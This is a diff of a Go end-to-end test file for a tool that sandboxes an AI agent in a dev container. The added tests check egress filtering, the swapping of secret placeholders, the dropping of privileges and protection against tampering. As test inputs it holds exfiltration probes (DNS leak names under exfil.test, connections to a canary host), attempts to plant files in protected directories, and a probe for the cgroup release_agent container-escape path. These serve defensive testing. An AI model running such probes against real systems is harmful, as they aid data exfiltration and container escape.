@@ -5,15 +5,18 @@ import (
 	"crypto/rand"
 	"encoding/hex"
 	"fmt"
+	"io/fs"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
 	"vak/internal/devcontainer"
 	"vak/internal/dockerd"
+	"vak/internal/egress/egressconfig"
 	"vak/internal/paths"
 	"vak/internal/proxynet"
 	"vak/internal/testenv"
@@ -48,15 +51,27 @@ func TestDevcontainerDockerComposeV2(t *testing.T) {
 	devcontainerDocker(t, composeV2(t), false)
 }
 
+// needSidecarImage skips (fails with VAK_REQUIRE_DOCKER=1) a non-root run
+// when the sidecar image is missing: prepare builds it when it is (as a
+// session's --docker does), which needs root (debootstrap, chroot), so the
+// non-root leg uses the image the root leg built.
+func needSidecarImage(t *testing.T) {
+	t.Helper()
+	if os.Getuid() == 0 {
+		return
+	}
+	tag := dockerd.DefaultRecipe.Tag()
+	if out, err := exec.Command("docker", "image", "inspect", "--format", "{{.Id}}", tag).CombinedOutput(); err != nil {
+		testenv.Missing(t, testenv.EnvRequireDocker, "the sidecar image "+tag+" is not built, and building it needs root: run `go test -run TestDevcontainerDocker ./internal/devcontainer/` (or `vak devcontainer prepare` of a --docker template, or any `vak session create --docker`) as root first ("+strings.TrimSpace(string(out))+")")
+	}
+}
+
 // devcontainerDocker runs the --docker template's end-to-end test with
 // compose f; full adds what does not depend on the compose (the scan and
 // read-configuration, inner networks and compose, the guard's refusals,
 // the bind-source swap).
 func devcontainerDocker(t *testing.T, f composeFlavor, full bool) {
-	if os.Getuid() != 0 {
-		// prepare may have to build the sidecar image (debootstrap).
-		testenv.Missing(t, testenv.EnvRequireDocker, "the --docker dev-container test needs root (sidecar image)")
-	}
+	needSidecarImage(t)
 	dc := devcontainerCLI(t)
 	base := testenv.TestNetImage(t)
 	// The agent's image: Debian with docker.io's CLI and docker-compose
@@ -67,7 +82,7 @@ func devcontainerDocker(t *testing.T, f composeFlavor, full bool) {
 	}
 	vak := testenv.Vak(t)
 	id := testenv.TestID(t)
-	in := testenv.StartInternet(t, base, "allowed.test", "denied.test")
+	in := testenv.StartInternet(t, base, "allowed.test", "denied.test", "unbound.test")
 	certs, inet, upIP, canIP := in.Certs, in.Network, in.UpstreamIP, in.CanaryIP
 	t.Cleanup(func() { removeLabelled(id) })
 
@@ -83,18 +98,19 @@ policy = "proxied"
 [[network.rules]]
 name = "test upstream"
 action = "allow"
-hosts = ["allowed.test"]
+hosts = ["allowed.test", "unbound.test"]
 cidrs = ["%s/32"]
 [network.dns.overrides]
 "allowed.test" = [%q]
 "denied.test" = [%q]
+"unbound.test" = [%q]
 "canary.test" = [%q]
 [gateway]
 extra_ca_bundles = [%q]
 [secrets.TOKEN]
 value = %q
 hosts = ["allowed.test"]
-`, upIP, upIP, upIP, canIP, certs.CA, secret)), 0o600)
+`, upIP, upIP, upIP, upIP, canIP, certs.CA, secret)), 0o600)
 	ws, err := paths.CanonicalWorkspace(mkdir(t, filepath.Join(base0, testenv.UniqueName("ws"))))
 	if err != nil {
 		t.Fatal(err)
@@ -171,6 +187,41 @@ hosts = ["allowed.test"]
 	if out, _ := sb("echo $DOCKER_HOST"); lastLine(out) != "unix://"+devcontainer.DockerSocket {
 		t.Errorf("DOCKER_HOST = %q", out)
 	}
+	t.Run("AgentRunsAsTheWorkspaceOwner", func(t *testing.T) {
+		// The agent's container runs as the workspace owner (this user;
+		// root's workspace: the image's root), drives the nested engine
+		// as that user, and what it writes in the workspace is theirs.
+		if out, _ := sb("id -u; id -g"); strings.Join(strings.Fields(out), ":") != fmt.Sprintf("%d:%d", os.Getuid(), os.Getgid()) {
+			t.Errorf("the agent runs as %q, want the workspace owner %d:%d", out, os.Getuid(), os.Getgid())
+		}
+		if out, err := sb("echo ok > from-agent && cat from-agent"); err != nil || lastLine(out) != "ok" {
+			t.Fatalf("control: the workspace is not writable for the agent: %v\n%s", err, out)
+		}
+		if fi, err := os.Stat(filepath.Join(ws, "from-agent")); err != nil {
+			t.Fatal(err)
+		} else if st, ok := fi.Sys().(*syscall.Stat_t); !ok || int(st.Uid) != os.Getuid() || int(st.Gid) != os.Getgid() {
+			t.Errorf("the agent's file is owned by %v, want this user's %d:%d", fi.Sys(), os.Getuid(), os.Getgid())
+		}
+		// Everything prepare wrote on the host (placeholders, digests,
+		// dockerd's seccomp profile) is the user's too.
+		n := 0
+		filepath.WalkDir(filepath.Join(xdgState, "vak"), func(p string, d fs.DirEntry, err error) error {
+			if err != nil {
+				t.Errorf("walk the state dir: %v", err)
+				return nil
+			}
+			n++
+			if fi, err := d.Info(); err == nil {
+				if st, ok := fi.Sys().(*syscall.Stat_t); ok && int(st.Uid) != os.Getuid() {
+					t.Errorf("%s is owned by uid %d, not the user (%d)", p, st.Uid, os.Getuid())
+				}
+			}
+			return nil
+		})
+		if _, err := os.Stat(devcontainer.SeccompFile(filepath.Join(xdgState, "vak"), key)); err != nil || n < 3 {
+			t.Errorf("control: prepare's files in the state dir (%d entries): %v", n, err)
+		}
+	})
 	if out, err := run(vak, "devcontainer", "doctor", "-w", ws); err != nil || !strings.Contains(out, "fence self-test passed") || !strings.Contains(out, "dockerd") {
 		t.Errorf("doctor after up: %v\n%s", err, out)
 	}
@@ -207,6 +258,91 @@ hosts = ["allowed.test"]
 		}
 	})
 	if full {
+		t.Run("AgentEgressAndPlaceholder", func(t *testing.T) {
+			// The agent's own container (not an inner one), as in the plain
+			// variant: the static probe, copied into the workspace.
+			data, err := os.ReadFile(testenv.Probe(t))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(filepath.Join(ws, "probe"), data, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			probe := func(args string) string {
+				t.Helper()
+				out, _ := sb(ws + "/probe " + args)
+				return lastLine(out)
+			}
+			testenv.ResetCanary(t, canIP)
+			if out := probe("tls https://allowed.test/status/200"); !strings.HasPrefix(out, "OK 200") || !strings.Contains(out, `issuer="vak gateway CA"`) {
+				t.Fatalf("the agent's HTTPS to the allowed upstream (verification on, no flags): %s", out)
+			}
+			if out := probe("http https://denied.test/status/200 5s"); strings.HasPrefix(out, "OK 200") {
+				t.Errorf("the agent reached a denied name: %s", out)
+			}
+			for _, a := range []string{
+				"http http://" + canIP + "/ 3s",
+				"connect " + canIP + ":22 3s",
+				"udp " + canIP + ":9 2s",
+				"dns leak-" + hex.EncodeToString(rnd[:3]) + ".exfil.test " + canIP,
+				"dns --tcp leak2.exfil.test " + canIP,
+				"connect canary.test:80 3s",
+			} {
+				out := probe(a)
+				sinkOnly := strings.Contains(out, "NOERROR A "+egressconfig.DefaultSinkhole.String()+" ")
+				if strings.Contains(out, "OK 200") || strings.Contains(out, "canary") || (strings.Contains(out, "NOERROR") && !sinkOnly) {
+					t.Errorf("the agent's %s: %s", a, out)
+				}
+			}
+			ph, _ := sb("echo $TOKEN")
+			if ph = lastLine(ph); !strings.HasPrefix(ph, "vakph_") {
+				t.Fatalf("the agent sees TOKEN=%q (want its placeholder)", ph)
+			}
+			if env, _ := sb("env"); strings.Contains(env, secret) {
+				t.Fatalf("the real value is in the agent's environment")
+			}
+			testenv.ResetUpstream(t, upIP)
+			if out := probe(`http -H "Authorization: Bearer $TOKEN" https://allowed.test/sink 5s`); !strings.HasPrefix(out, "OK 200") {
+				t.Fatalf("the placeholder toward its bound host: %s", out)
+			}
+			if reqs := testenv.UpstreamRequests(t, upIP); reqs.Count != 1 || strings.Join(reqs.Requests[0].Headers["Authorization"], "") != "Bearer "+secret {
+				t.Fatalf("the bound host did not receive the real value: %+v", reqs)
+			}
+			testenv.ResetUpstream(t, upIP)
+			if out := probe(`http -H "Authorization: Bearer $TOKEN" https://unbound.test/sink 5s`); !strings.Contains(out, "403") {
+				t.Errorf("the placeholder toward an allowed host it is not bound to was not blocked: %s", out)
+			}
+			if reqs := testenv.UpstreamRequests(t, upIP); reqs.Count != 0 {
+				t.Errorf("the unbound host received the request: %+v", reqs)
+			}
+			if c := testenv.CanaryCounts(t, canIP); c.Total != 0 || c.DNS != 0 {
+				t.Errorf("the canary saw the agent's traffic: %+v", c)
+			}
+			os.Remove(filepath.Join(ws, "probe"))
+		})
+		t.Run("AgentGainsNoPrivileges", func(t *testing.T) {
+			// No capabilities (bounding set empty) and no-new-privileges:
+			// setuid binaries in the image (su, mount, passwd) and sudo, if
+			// the image had it, gain nothing.
+			status := func(out string) map[string]string {
+				m := map[string]string{}
+				for _, l := range strings.Split(out, "\n") {
+					if k, v, ok := strings.Cut(l, ":"); ok {
+						m[k] = strings.TrimSpace(v)
+					}
+				}
+				return m
+			}
+			out, _ := sb("grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd):' /proc/self/status")
+			if st := status(out); st["NoNewPrivs"] != "1" || st["CapEff"] != "0000000000000000" || st["CapPrm"] != "0000000000000000" || st["CapBnd"] != "0000000000000000" {
+				t.Errorf("the agent's privileges: %s", out)
+			}
+			// Control: the same image without the template's options.
+			ctl, _ := exec.Command("docker", append(append([]string{"run", "--rm"}, testenv.LabelArgs(t)...), "--network", "none", "--entrypoint", "grep", img, "-E", "^(NoNewPrivs|CapBnd):", "/proc/self/status")...).CombinedOutput()
+			if st := status(string(ctl)); st["NoNewPrivs"] != "0" || st["CapBnd"] == "0000000000000000" || st["CapBnd"] == "" {
+				t.Errorf("control: a plain container of %s: %s", img, ctl)
+			}
+		})
 		t.Run("TwoContainersOnAUserNetwork", func(t *testing.T) {
 			out, err := sb("docker network create vakinner && docker run -d --name srv --network vakinner " + base + " testnet canary")
 			if err != nil {
@@ -222,6 +358,65 @@ hosts = ["allowed.test"]
 				t.Errorf("inner container to inner container by name: %s", last)
 			}
 			sb("docker rm -f srv; docker network rm vakinner")
+		})
+		t.Run("TemplateDirsReadOnlyForInnerContainers", func(t *testing.T) {
+			// The template's initializeCommand runs on the host: an inner
+			// container (root, Docker's default capabilities) binding the
+			// workspace, or the template dirs themselves, must not change
+			// them either. Control: the same container writes the workspace.
+			var attempts []string
+			for _, d := range devcontainer.ProtectedDirs {
+				attempts = append(attempts,
+					"echo x >> /w/"+d+"/"+devcontainer.ComposeFile,
+					"echo '{}' > /w/"+d+"/"+devcontainer.ConfigFile,
+					"touch /w/"+d+"/planted",
+					"echo x >> /d/"+devcontainer.ComposeFile,
+					"touch /d/planted",
+				)
+			}
+			for _, d := range devcontainer.ProtectedDirs {
+				script := strings.Join(append(attempts, "echo ok > /w/inner-control"), "; ")
+				out, err := sb("docker run --rm -v " + ws + ":/w -v " + ws + "/" + d + ":/d " + base + " sh -c \"" + script + "\" 2>&1")
+				if data, e := os.ReadFile(filepath.Join(ws, "inner-control")); e != nil || strings.TrimSpace(string(data)) != "ok" {
+					t.Fatalf("control: the inner container could not write the workspace: %v %v\n%s", err, e, out)
+				}
+				os.Remove(filepath.Join(ws, "inner-control"))
+			}
+			sb("docker run --rm -v " + ws + ":/w " + base + " rm -f /w/inner-control")
+			for _, d := range devcontainer.ProtectedDirs {
+				if _, err := os.Stat(filepath.Join(ws, d, "planted")); err == nil {
+					t.Errorf("an inner container planted a file in %s", d)
+				}
+			}
+			for _, f := range []string{devcontainer.ConfigFile, devcontainer.ComposeFile} {
+				data, err := os.ReadFile(filepath.Join(ws, devcontainer.Dir, f))
+				if err != nil || string(data) == "{}\n" || strings.HasSuffix(string(data), "x\n") {
+					t.Errorf("an inner container changed %s: %v", f, err)
+				}
+			}
+			if _, err := os.Stat(filepath.Join(ws, devcontainer.VSCodeDir, devcontainer.ComposeFile)); err == nil {
+				t.Errorf("an inner container wrote in %s", devcontainer.VSCodeDir)
+			}
+		})
+		t.Run("InnerContainerFileOwners", func(t *testing.T) {
+			// An inner container writes a bind-mounted workspace as its
+			// user: with -u as the workspace owner, the file is theirs;
+			// without, as the image's root, which is the host's root (the
+			// nested engine is rootful: docs/devcontainer.md, "The agent's
+			// user"), so an inner container removes that file again.
+			asUser := fmt.Sprintf("docker run --rm -u %d:%d -v %s:/w %s sh -c 'echo ok > /w/inner-as-user'", os.Getuid(), os.Getgid(), ws, base)
+			asRoot := "docker run --rm -v " + ws + ":/w " + base + " sh -c 'echo ok > /w/inner-as-root'"
+			if out, err := sb(asUser + " && " + asRoot); err != nil {
+				t.Fatalf("inner writes: %v\n%s", err, out)
+			}
+			defer sb("docker run --rm -v " + ws + ":/w " + base + " rm -f /w/inner-as-root /w/inner-as-user")
+			for f, uid := range map[string]int{"inner-as-user": os.Getuid(), "inner-as-root": 0} {
+				if fi, err := os.Stat(filepath.Join(ws, f)); err != nil {
+					t.Errorf("%s: %v", f, err)
+				} else if st, ok := fi.Sys().(*syscall.Stat_t); !ok || int(st.Uid) != uid {
+					t.Errorf("%s is owned by %v, want uid %d", f, fi.Sys(), uid)
+				}
+			}
 		})
 		t.Run("ComposeInside", func(t *testing.T) {
 			// docker-compose 1.29 in the agent's container, through the guard:
@@ -339,21 +534,30 @@ hosts = ["allowed.test"]
 		}
 		// dockerd (PID 1) is in a cgroup namespace other than the one
 		// compose created the container in (which a docker exec joins).
-		if out, _ := testenv.Exec(t, d, "sh", "-c", "readlink /proc/1/ns/cgroup /proc/self/ns/cgroup"); len(strings.Fields(out)) != 2 || strings.Fields(out)[0] == strings.Fields(out)[1] {
-			t.Errorf("dockerd (PID 1) did not move to a cgroup namespace of its own: %s", out)
+		out, _ := testenv.Exec(t, d, "sh", "-c", "readlink /proc/1/ns/cgroup /proc/self/ns/cgroup")
+		ns := strings.Fields(out)
+		if len(ns) != 2 || ns[0] == ns[1] {
+			t.Fatalf("dockerd (PID 1) did not move to a cgroup namespace of its own: %s", out)
 		}
-		// ... and not the host's (seen from the host: the test runs as root).
-		pid := testenv.Docker(t, "inspect", "--format", "{{.State.Pid}}", d)
-		host, err1 := os.Readlink("/proc/self/ns/cgroup")
-		ns, err2 := os.Readlink("/proc/" + pid + "/ns/cgroup")
-		if err1 != nil || err2 != nil || ns == host {
-			t.Errorf("dockerd (host pid %s) is in the host's cgroup namespace %s: %s (%v %v)", pid, host, ns, err1, err2)
+		// ... and not the host's: namespace ids are the kernel's, the same
+		// read inside the container as from the host, where this test runs.
+		host, err := os.Readlink("/proc/self/ns/cgroup")
+		if err != nil || ns[0] == host {
+			t.Errorf("dockerd (PID 1) is in the host's cgroup namespace %s: %s (%v)", host, ns[0], err)
+		}
+		if os.Getuid() == 0 {
+			// Root also sees it from the host, by dockerd's host pid (a
+			// user cannot read a root process's namespaces).
+			pid := testenv.Docker(t, "inspect", "--format", "{{.State.Pid}}", d)
+			if hns, err := os.Readlink("/proc/" + pid + "/ns/cgroup"); err != nil || hns != ns[0] {
+				t.Errorf("dockerd's host pid %s is in cgroup namespace %s, inside it reads %s (%v)", pid, hns, ns[0], err)
+			}
 		}
 		// Control: the same probe with the same capability in the host's
 		// cgroup namespace finds it (so the probe can fail).
-		out, _ := exec.Command("docker", append(append([]string{"run", "--rm"}, testenv.LabelArgs(t)...), "--cap-drop", "ALL", "--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined", "--cgroupns", "host", "--entrypoint", "sh", devcontainer.DockerdImage, "-c", probe)...).CombinedOutput()
-		if !strings.Contains(string(out), "/tmp/cg/release_agent") || strings.Contains(string(out), "No such file") {
-			t.Errorf("control: the probe did not find release_agent in the host's cgroup namespace: %s", out)
+		ctl, _ := exec.Command("docker", append(append([]string{"run", "--rm"}, testenv.LabelArgs(t)...), "--cap-drop", "ALL", "--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined", "--cgroupns", "host", "--entrypoint", "sh", devcontainer.DockerdImage, "-c", probe)...).CombinedOutput()
+		if !strings.Contains(string(ctl), "/tmp/cg/release_agent") || strings.Contains(string(ctl), "No such file") {
+			t.Errorf("control: the probe did not find release_agent in the host's cgroup namespace: %s", ctl)
 		}
 	})
 
